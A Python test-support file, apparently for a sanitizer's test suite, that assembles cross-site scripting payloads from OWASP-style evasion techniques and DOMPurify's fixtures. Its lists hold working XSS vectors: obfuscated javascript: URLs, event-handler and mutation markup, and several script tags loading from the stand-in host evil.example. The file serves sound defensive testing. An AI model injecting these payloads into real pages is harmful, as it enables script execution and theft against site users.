"""Vectors of cross-site scripting: those of DOMPurify, and our own by the techniques that OWASP lists."""

from __future__ import annotations

import json
import subprocess
from itertools import product

import pytest
from paths import NODE_MODULES

FIXTURES = NODE_MODULES / "dompurify-fixtures/test/fixtures/expect.js"

# By technique, as in OWASP's "XSS Filter Evasion Cheat Sheet"; every payload calls `alert`.
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
    " \x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "javascript&colon;alert&lpar;1&rpar;",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:null/x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)",
)
HOLDERS = (
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x',
    '<object data="{}">',
    '<embed src="{}">',
    '<body background="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<link rel=stylesheet href="{}">',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>',
    '<math href="{}">x</math>',
    "<div style=\"background-image:url('{}')\">",
    '<input type=image src="{}">',
    '<base href="{}//">',
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=# onmouseover=alert(1)>",
    "<img onerror  =\talert(1) src=/>",
    "<img/src/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><set attributeName=onmouseover to=alert(1) begin=0s>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'/>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<video autoplay oncanplay=alert(1) src=x>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<div tabindex=1 autofocus onfocus=alert(1)>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
    "<button popovertarget=x>x</button><b id=x popover onbeforetoggle=alert(1)>",
    "<xss contenteditable autofocus onfocus=alert(1)>",
)
BROKEN = (
    "<<script>alert(1)//<</script>",
    "<script/xss src='//evil.example/x.js'></script>",
    "<script src=//evil.example/x.js?<b>",
    "<script\x0b>alert(1)</script>",
    "<script/random>alert(1)</script foo>",
    "<sc\0ript>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml:namespace prefix=t ns=x><t:set attributeName=innerHTML to='&lt;img src=x onerror=alert(1)&gt;'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img src=x onerror=alert(1)>\">",
    "<table><caption><svg><desc><table><caption></caption></table></desc><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x",
    "<form name=location><input name=href><img name=cookie><a id=defaultView>",
    "<form name=getElementById><input id=querySelector name=attributes>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<div style=width:expression(alert(1))>",
    "<style>@import'javascript:alert(1)';li{list-style-image:url('javascript:alert(1)')}</style>",
    "<object type=text/x-scriptlet data=//evil.example/x.html></object>",
    "<applet code=x></applet><isindex type=image src=1 onerror=alert(1)>",
    "<link rel=import href=//evil.example/x.html><link rel=prefetch href=//evil.example/x>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<portal src=javascript:alert(1)><fencedframe src=//evil.example>",
    "\"'><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "\\\";alert(1);//",
    "</script><!--<script>alert(1)",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "\u2028alert(1)\u2029",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\u017fcript<\u017fcript>alert(1)</\u017fcript>",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
)  # fmt: skip


def by_technique() -> list[str]:
    """Our own: every scheme in every holder in HTML and in a Markdown link, handlers, broken markup."""
    placed = [holder.format(scheme) for holder, scheme in product(HOLDERS, SCHEMES)]
    links = [f"[x]({scheme})" for scheme in SCHEMES] + [f"<{scheme}>" for scheme in SCHEMES]
    named = [f"[x][{n}]\n\n[{n}]: {scheme}" for n, scheme in enumerate(SCHEMES)]
    return [*placed, *links, *named, *HANDLERS, *BROKEN]


def of_dompurify() -> list[str]:
    """The payloads of DOMPurify's own tests, many of which are H5SC's, from the last package that had them."""
    if not FIXTURES.is_file():
        pytest.fail("DOMPurify's fixtures are missing; run: make test", pytrace=False)
    script = "console.log(JSON.stringify(require(process.argv[1]).map(one => one.payload)))"
    done = subprocess.run(
        ["node", "-e", script, str(FIXTURES)], capture_output=True, check=True, timeout=60
    )
    found: list[str] = json.loads(done.stdout)
    return found


def on_a_line(text: str) -> str:
    """What a field of one line makes of it."""
    return " ".join(text.replace("\ufeff", "").split())
